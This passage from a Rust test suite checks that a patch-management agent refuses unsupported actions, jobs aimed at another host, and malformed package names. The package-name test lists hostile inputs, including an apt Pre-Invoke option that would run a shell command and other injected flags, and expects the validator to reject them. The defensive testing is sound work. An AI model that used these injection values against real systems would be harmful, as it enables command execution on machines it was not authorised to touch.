    let mut runner = runner(dir.path(), ready(&k));
    let mut statement = script_statement(44, b"", 30);
    statement.class = bulwark_policy::ActionClass::InstallPatches;
    statement.action = JobAction::InstallPatches {
        packages: vec!["openssl".into()],
    };
    let result = runner
        .process(&logged(&signed(&statement, &[&k.alice, &k.bob]), b""))
        .await
        .expect("a result");
    assert_eq!(refusal_code(&result), "action_not_supported");
}

/// A package name apt or dpkg could read as an option (or anything else
/// outside Debian's grammar) is refused at step 2 (`malformed`), before
/// anything is recorded or apt is run, by an agent that runs patch jobs.
#[tokio::test]
async fn a_patch_job_naming_an_option_is_refused() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    // An apt configuration that would fail if apt ever ran with it.
    let updates = bulwark_agent::updates::Updates::new(Some(dir.path().join("missing.conf")));
    let mut runner = runner(dir.path(), ready(&k)).with_updates(updates);
    for (n, name) in [
        "-oAPT::Update::Pre-Invoke::=touch /tmp/x",
        "--reinstall",
        "openssl -y",
        "OpenSSL",
        "a",
        "openssl:",
    ]
    .into_iter()
    .enumerate()
    {
        let mut statement = script_statement(60 + n as u8, b"", 30);
        statement.class = bulwark_policy::ActionClass::InstallPatches;
        statement.action = JobAction::InstallPatches {
            packages: vec!["openssl".into(), name.into()],
        };
        let result = runner
            .process(&logged(&signed(&statement, &[&k.alice, &k.bob]), b""))
            .await
            .expect("a result");
        assert_eq!(refusal_code(&result), "malformed", "{name}");
    }
}

/// The job names the device as the operator chose it; this machine's real
/// host name must be the one named.
#[tokio::test]
async fn a_job_naming_another_host_is_refused() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let mut runner = runner(dir.path(), ready(&k));
    let marker = dir.path().join("ran");
    let script = format!("touch {}\n", marker.display()).into_bytes();
    let mut statement = script_statement(45, &script, 30);
    statement.targets[0].hostname = format!("not-{}", statement.targets[0].hostname);
    let result = runner
        .process(&logged(&signed(&statement, &[&k.alice, &k.bob]), &script))
        .await
        .expect("a result");
    assert_eq!(refusal_code(&result), "target_mismatch");
    statement.targets[0].hostname = bulwark_agent::jobs::current_hostname();
    statement.targets[0].device_key = Some([7; 32]);
    let result = runner
        .process(&logged(&signed(&statement, &[&k.alice, &k.bob]), &script))
        .await
        .expect("a result");
    assert_eq!(refusal_code(&result), "target_mismatch");
    assert!(!marker.exists());
}
